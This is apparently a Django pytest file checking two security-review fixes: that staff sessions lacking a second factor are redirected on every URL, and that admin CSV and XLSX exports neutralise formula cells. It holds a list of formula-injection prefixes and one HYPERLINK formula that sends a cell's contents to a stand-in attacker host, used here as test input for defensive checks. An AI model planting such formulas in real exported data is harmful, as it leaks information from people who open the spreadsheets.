"""Classes of findings from the security review (issue 12), kept fixed for every URL and export.

1. Every staff request comes from a session that passed the second factor: every named URL of
   the URLconf and every admin page, GET and POST, as staff without a factor (sent to set one
   up) and as staff whose session logged in with the password alone (asked for the code).
6. Every admin export neutralises cells a spreadsheet would run as a formula, in CSV and XLSX.
"""

import csv
import io
import itertools

import openpyxl
import pytest
from django.contrib import admin
from django.db import models
from django.urls import reverse
from import_export.admin import ExportMixin

from members.middleware import PROVE_URL_NAMES, SETUP_URL_NAMES
from members.spreadsheets import FORMULA_STARTS
from tests.logins import login_password_only

from .world import named_urls, url_for

pytestmark = pytest.mark.django_db


def _every_path(world) -> list[tuple[str, str]]:
    """(url name, path) for every named URL with sample arguments, and every admin page."""
    found = []
    for url in named_urls():
        path = url_for(url, world) if url.kwargs else reverse(url.name)
        if path is not None:
            found.append((url.name, path))
    found.append(("admin:index", reverse("admin:index")))
    for model in admin.site._registry:
        prefix = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        found.append((f"{prefix}_changelist", reverse(f"{prefix}_changelist")))
        found.append((f"{prefix}_add", reverse(f"{prefix}_add")))
    return found


def _short(name: str) -> str:
    return name.split(":")[-1]


def _check_every_path(world, client, *, allowed, target) -> list[str]:
    problems = []
    for name, path in _every_path(world):
        if _short(name) in allowed:
            continue
        for method in ("get", "post"):
            response = getattr(client, method)(path)
            location = response.get("Location", "")
            if response.status_code != 302 or not location.startswith(target):
                problems.append(f"{method.upper()} {path}: {response.status_code} {location}")
    return problems


def test_staff_without_a_second_factor_reach_nothing_but_its_setup(world):
    from devtools.factories.members import UserFactory

    staff = UserFactory(is_staff=True, is_superuser=True, email="new-staff@example.dk")
    client = world.client_for("visitor")
    client.force_login(staff)
    problems = _check_every_path(
        world, client, allowed=SETUP_URL_NAMES, target=reverse("mfa_activate_totp")
    )
    assert not problems, "\n".join(problems)
    # The way out is open: the setup page answers, without asking for the password again
    # right after the login (almennet.account_adapter).
    response = client.get(reverse("mfa_activate_totp"))
    assert response.status_code == 200


@pytest.mark.parametrize("role", ["editor", "superuser"])
def test_a_password_only_staff_session_is_asked_for_the_code_everywhere(world, role):
    client = world.client_for("visitor")
    login_password_only(client, world.users[role])
    problems = _check_every_path(
        world, client, allowed=PROVE_URL_NAMES, target=reverse("mfa_reauthenticate")
    )
    assert not problems, "\n".join(problems)
    assert client.get(reverse("mfa_reauthenticate")).status_code == 200


# --- exports (finding 6) ------------------------------------------------------------------------

PAYLOADS = ("=HYPERLINK(", "+1+", "-1+", "@SUM(", "\t=1+", "\r=1+", "  =1+")


_serial = itertools.count(1)


def _poison(instance) -> None:
    """Every free text field of the row (and of the rows it points at) begins like a formula."""
    values = {}
    for field in instance._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField) or field.choices:
            continue
        # The password and the second factors' ids sign the session (poisoned, they log the
        # exporting staff member out); nobody types either.
        if field.primary_key or field.name in ("password", "second_factors"):
            continue
        if field.max_length is not None and field.max_length < 10:
            continue
        n = next(_serial)  # unique values, for unique fields
        value = f"{PAYLOADS[n % len(PAYLOADS)]}{n}"
        values[field.attname] = value[: field.max_length] if field.max_length else value
    if values:
        type(instance)._default_manager.filter(pk=instance.pk).update(**values)


def _exporting_admins():
    return [(m, a) for m, a in admin.site._registry.items() if isinstance(a, ExportMixin)]


def _export(client, model, file_format: str):
    prefix = f"admin:{model._meta.app_label}_{model._meta.model_name}"
    url = reverse(f"{prefix}_export")
    form = client.get(url).context["form"]
    value = next(
        v for v, label in form.fields["format"].choices if str(label).lower() == file_format
    )
    data = {"format": str(value), "resource": "0"}
    for name, field in form.fields.items():
        if name not in data and field.widget.input_type == "checkbox":
            data[name] = "on"
    response = client.post(url, data)
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    return response


def _cells(response, file_format) -> list:
    if file_format == "csv":
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    return [c.value for c in cells]


def test_every_admin_export_neutralises_formula_cells(world):
    exporting = _exporting_admins()
    assert exporting, "no admin exports found"
    for model, _model_admin in exporting:
        for row in model._default_manager.all():
            _poison(row)
            for field in row._meta.concrete_fields:
                if field.is_relation and getattr(row, field.attname):
                    _poison(getattr(row, field.name))
    client = world.client_for("superuser")
    problems = []
    for model, _model_admin in exporting:
        for file_format in ("csv", "xlsx"):
            cells = _cells(_export(client, model, file_format), file_format)
            texts = [c for c in cells if isinstance(c, str)]
            live = [c for c in texts if c.lstrip(" \t\r\n").startswith(FORMULA_STARTS)]
            if live:
                problems.append(f"{model.__name__} {file_format}: {live[:5]}")
            if not any(c.startswith("'") for c in texts):
                problems.append(f"{model.__name__} {file_format}: no poisoned cell came out")
    assert not problems, "\n".join(problems)


def test_the_participant_export_neutralises_the_reported_dietary_needs(world):
    """The case from the report: a HYPERLINK formula in a participant's dietary needs."""
    from events.models import Registration

    registration = world.objects["registration"]
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    Registration.objects.filter(pk=registration.pk).update(dietary_needs=formula)
    client = world.client_for("superuser")
    for file_format in ("csv", "xlsx"):
        cells = _cells(_export(client, Registration, file_format), file_format)
        assert "'" + formula in cells, file_format
        assert formula not in cells, file_format
